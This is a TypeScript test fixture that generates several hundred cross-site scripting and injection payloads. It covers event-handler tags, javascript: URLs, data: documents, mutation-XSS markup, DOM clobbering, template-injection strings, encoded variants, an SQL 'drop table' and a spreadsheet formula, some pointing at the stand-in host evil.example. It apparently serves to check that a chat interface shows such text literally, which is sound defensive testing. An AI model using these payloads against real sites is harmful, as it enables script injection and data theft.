const run = 'globalThis.pwned=true'
const plainRun = 'globalThis[`pwned`]=true'

/** Elements that run an attribute by themselves, or with the least touch. */
const elements = [
  'img src=x onerror',
  'svg onload',
  'svg/onload',
  'body onload',
  'body onpageshow',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'video><source onerror',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'div onpointerenter',
  'a href=# onclick',
  'p style="animation:x" onanimationstart',
]
/** What closes the place where the text may have been written. */
const endings = ['', '"', "'", '`', '</textarea>', '</title>', '</script>', '</style>', '-->', ']]>']

const schemes = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  ' javascript',
  'vbscript',
]
const carriers = [
  (url: string) => url,
  (url: string) => `<a href="${url}">点我</a>`,
  (url: string) => `[点我](${url})`,
  (url: string) => `<form action="${url}"><button>点我</button></form>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
]

const documents = [
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPXRydWU8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `blob:https://evil.example/${run}`,
  `<iframe srcdoc="<script>parent.pwned=true</script>"></iframe>`,
  '<object data="data:text/html,<script>parent.pwned=true</script>"></object>',
  '<embed src="data:text/html,<script>parent.pwned=true</script>">',
  '<base href="https://evil.example/">',
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/leak)}</style>',
  '<script src=//evil.example/x.js></script>',
  `<script type=module>${run}</script>`,
  '<template shadowrootmode=open><script>globalThis.pwned=true</script></template>',
]

/** Markup that a parser reads in another way the second time. */
const mutations = [
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></desc></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>点我</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}">`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<table><td><caption><img src=x onerror=${run}>`,
  `<img src="x" alt="\`><img src=x onerror=${run}>">`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]><x>&y;</x>`,
]

const clobbering = ['body', 'cookie', 'location', 'getElementById', 'documentElement', 'trustedTypes'].flatMap(
  (name) => [
    `<form name=${name}><input id=${name}></form>`,
    `<img name=${name}><a id=${name} href="https://evil.example/">`,
  ],
)

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{% raw %}${run}{% endraw %}`,
  `[[${run}]]`,
  `{0}{1}{name}`,
  `{count, plural, one {#} other {${run}}}`,
  '<0>粗体</0>',
]

const encodings = [
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%253Cscript%253E${run}%253C/script%253E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `＜script＞${run}＜/script＞`,
  `‹script›${run}‹/script›`,
  `<\u0000script>${run}</\u0000script>`,
  `<scr\u200Bipt>${run}</scr\u200Bipt>`,
  `<ſcript>${run}</ſcript>`,
]

/** Where WeChat's own codes, links and the console's own marks begin. */
const marks = [
  '/::<img src=x onerror=globalThis.pwned=true>',
  '/:&"><img src=x onerror=globalThis.pwned=true>',
  '[微笑]<img src=x onerror=globalThis.pwned=true>[微笑]',
  `https://a.example/"onmouseover="${run}`,
  `https://a.example/'onmouseover='${run}`,
  `https://a.example/<script>${run}</script>`,
  `https://a.example\\@evil.example/`,
  `https://用户:密码@evil.example/`,
  `weixin://dl/business/?t="><img src=x onerror=${run}>`,
  `//evil.example/${run}`,
  `@莉莉<img src=x onerror=${run}>`,
  `/${plainRun}`,
]

const words = [
  '\u202Egnp.exe\u202C',
  '\u2066<script>\u2069',
  'Z̸̢̛a̷l̵g̶o̴'.repeat(20),
  '👨‍👩‍👧‍👦'.repeat(50),
  '\uFEFF\u200B\u2060零宽',
  'A'.repeat(500),
  '很'.repeat(600),
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  "'; drop table message; --",
  '=HYPERLINK("https://evil.example/","点我")',
  '\u001b[31m红\u001b[0m',
]

/** More than three hundred payloads of the usual families, each to be shown letter by letter and to run nowhere (U1). */
export const hostileTexts: readonly string[] = [
  ...elements.flatMap((element) => endings.slice(0, 7).map((ending) => `${ending}><${element}=${run}>`)),
  ...elements.map((element) => `<${element}=${plainRun}//`),
  ...endings.map((ending) => `${ending}<script>${run}</script>`),
  ...endings.map((ending) => `${ending}<sCrIpT/x>${run}</sCrIpT >`),
  ...schemes.flatMap((scheme) => carriers.map((carrier) => carrier(`${scheme}:${run}`))),
  ...documents,
  ...mutations,
  ...clobbering,
  ...templates,
  ...encodings,
  ...marks,
  ...words,
]
